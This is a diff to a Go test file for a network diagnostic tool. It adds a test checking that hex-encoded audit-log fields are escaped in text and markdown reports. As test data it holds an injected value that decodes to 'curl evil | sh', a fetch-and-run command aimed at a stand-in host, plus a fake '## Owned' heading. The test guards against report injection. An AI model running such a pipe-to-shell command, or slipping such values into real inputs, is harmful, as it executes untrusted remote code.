@@ -10,6 +10,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/rtnl-doctor/rtnl-doctor/internal/fixture"
 	"github.com/rtnl-doctor/rtnl-doctor/probes"
 )
 
@@ -79,6 +80,36 @@ func TestLiveCommWithNewlineInReport(t *testing.T) {
 		}
 		for _, line := range strings.Split(o, "\n") {
 			if strings.HasPrefix(strings.TrimLeft(line, " -"), "✓ OK fa") {
+				t.Errorf("%s report: fake line %q", what, line)
+			}
+		}
+	}
+}
+
+// TestHexAuditFieldsInReport: audit fields are hex-encoded when they hold
+// special characters; decoded, a comm "ip\n$ curl evil | sh" and an exe
+// with "\n## Owned" must not print a fake prompt line or a heading.
+func TestHexAuditFieldsInReport(t *testing.T) {
+	root := fixtureRoot(t)
+	fixture.Write(t, root, map[string]string{"var/log/audit/audit.log": "type=AVC msg=audit(1732258141.312:8812): avc:  denied  { nlmsg_write } for  pid=4242 comm=69700A24206375726C206576696C207C207368 exe=2F7573722F7362696E2F69700A2323204F776E6564 scontext=system_u:system_r:x_t:s0 tcontext=system_u:system_r:x_t:s0 tclass=netlink_route_socket permissive=0\n"})
+	f := probes.Gather(context.Background(), probes.Target{Root: root})
+	found := false
+	for _, d := range f.Denials.Denials {
+		found = found || strings.Contains(d.Comm, "\n$ curl")
+	}
+	if !found {
+		t.Fatalf("the audit record was not decoded: %+v", f.Denials)
+	}
+	d := Diagnose(f, ParseSymptom("ip link add v0 type veth\nRTNETLINK answers: Permission denied"), nil)
+	var text, md bytes.Buffer
+	d.WriteText(&text)
+	d.WriteMarkdown(&md)
+	if !strings.Contains(text.String(), `ip\x0a$ curl evil | sh`) {
+		t.Fatalf("the denial is not in the text report:\n%s", text.String())
+	}
+	for what, o := range map[string]string{"text": text.String(), "markdown": md.String()} {
+		for _, line := range strings.Split(o, "\n") {
+			if l := strings.TrimLeft(line, " -"); strings.HasPrefix(l, "$ curl") || strings.HasPrefix(l, "## Owned") {
 				t.Errorf("%s report: fake line %q", what, line)
 			}
 		}
